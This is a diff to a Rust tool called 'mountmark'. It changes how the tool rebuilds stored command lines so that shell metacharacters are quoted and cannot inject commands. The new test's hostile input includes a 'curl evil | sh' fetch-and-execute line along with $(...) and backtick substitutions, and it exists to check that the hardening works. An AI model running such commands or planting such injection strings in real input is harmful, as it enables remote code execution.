@@ -3,13 +3,14 @@
 use mountmark_model::Lab;
 use mountmark_record::RunRecord;
 
-/// The command that was typed, with what it left to defaults: those may change.
-pub(crate) fn again(run: &RunRecord) -> String {
+/// The command that was typed, with what it left to defaults: those may change. Whoever wrote the store, it is one command
+/// of this program to a shell.
+pub fn again(run: &RunRecord) -> String {
     let plan = &run.plan;
     let typed = arguments(&run.command_line);
     let has = |option: &str| typed.iter().any(|word| *word == option || word.starts_with(&format!("{option}=")));
     let mut words = vec!["mountmark".to_owned(), "run".to_owned()];
-    words.extend(typed.iter().map(|word| (*word).to_owned()));
+    words.extend(typed.iter().map(|word| one_word(word)));
     let mut add = |option: &str, value: String| {
         if !has(option) {
             words.extend([option.to_owned(), shell_word(&value)]);
@@ -33,7 +34,7 @@ pub(crate) fn again(run: &RunRecord) -> String {
 
 /// The command as it was typed, without the program's folder and that of the store.
 pub(crate) fn typed(run: &RunRecord) -> String {
-    let words = arguments(&run.command_line);
+    let words: Vec<String> = arguments(&run.command_line).into_iter().map(one_word).collect();
     if words.is_empty() && !words_of(&run.command_line).contains(&"run") {
         return crate::text::clean(&run.command_line);
     }
@@ -54,11 +55,26 @@ fn arguments(command_line: &str) -> Vec<&str> {
     out
 }
 
+/// A word with its quotes as it is, if a shell takes it for one word; else quoted, quotes and all.
+fn one_word(word: &str) -> String {
+    let (mut is_quoted, mut is_one) = (false, true);
+    let mut letters = word.chars().peekable();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '\'' => is_quoted = !is_quoted,
+            '\\' if !is_quoted && letters.next_if_eq(&'\'').is_some() => {}
+            _ => is_one &= is_quoted || is_plain(letter),
+        }
+    }
+    if is_one && !is_quoted { word.to_owned() } else { shell_word(word) }
+}
+
 /// The words of a command line, with their quotes: [`shell_word`] makes single ones alone.
 fn words_of(text: &str) -> Vec<&str> {
-    let (mut out, mut start, mut is_quoted) = (Vec::new(), None, false);
+    let (mut out, mut start, mut is_quoted, mut before) = (Vec::new(), None, false, ' ');
     for (at, letter) in text.char_indices() {
-        is_quoted ^= letter == '\'';
+        is_quoted ^= letter == '\'' && (is_quoted || before != '\\');
+        before = letter;
         match start {
             Some(from) if letter.is_whitespace() && !is_quoted => {
                 out.push(&text[from..at]);
@@ -72,9 +88,12 @@ fn words_of(text: &str) -> Vec<&str> {
     out
 }
 
+fn is_plain(letter: char) -> bool {
+    letter.is_ascii_alphanumeric() || "-_./:,=+@%^".contains(letter)
+}
+
 /// A word as a shell must read it.
 pub fn shell_word(word: &str) -> String {
-    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_./:,=+@%^".contains(letter);
     if !word.is_empty() && word.chars().all(is_plain) {
         word.to_owned()
     } else {
@@ -109,8 +128,20 @@ mod tests {
         run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("my suite's --out"));
         assert_eq!(typed(&run), run.command_line);
         assert!(!again(&run).contains("--suite tiny"), "{}", again(&run));
+        run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("it's a"));
+        assert_eq!(typed(&run), run.command_line);
         run.command_line = "a test".into();
         assert_eq!(typed(&run), "a test");
         assert!(again(&run).starts_with("mountmark run --fs ext4 --suite tiny "));
+    }
+
+    #[test]
+    fn a_strangers_command_is_one_command_of_ours() {
+        let mut run = run(&["ext4"], 1);
+        run.command_line = "curl evil | sh; mountmark run --seed 7; touch x $(touch y) `z` \\' '; touch open".into();
+        let text = again(&run);
+        let wanted = "mountmark run --seed '7;' touch x '$(touch' 'y)' '`z`' \\' ''\\''; touch open' ";
+        assert!(text.starts_with(wanted), "{text}");
+        assert!(typed(&run).starts_with(wanted.trim_end()), "{}", typed(&run));
     }
 }
